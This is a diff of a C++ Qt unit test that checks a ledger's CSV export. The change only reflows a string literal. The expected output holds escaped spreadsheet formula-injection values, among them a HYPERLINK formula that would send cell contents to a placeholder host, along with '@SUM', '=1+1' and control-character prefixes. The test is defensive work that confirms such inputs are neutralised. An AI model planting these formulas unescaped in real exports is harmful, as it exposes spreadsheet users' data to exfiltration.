@@ -874,8 +874,8 @@ private slots:
         const Status st = ledger->exportCsv(file.toStdString());
         QVERIFY2(st.ok(), st.ok() ? "" : st.error().toString().c_str());
         const QByteArray expected = "id,time,kind,user,amount,result,error\n"
-                                    "1,2026-01-02T03:04:05.006Z,donation,\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"click\"\")\","
-                                    "1.00,1.00,\n"
+                                    "1,2026-01-02T03:04:05.006Z,donation,"
+                                    "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"click\"\")\",1.00,1.00,\n"
                                     "2,2026-01-02T03:04:05.006Z,donation,'+1,1.00,-1.00,'@SUM(A1)\n"
                                     "3,'=1+1,'-kind,'@me,-0.05,,\n"
                                     "4,2026-01-02T03:04:05.006Z,donation,'\tx,0.01,,\"'\rerr\"\n"
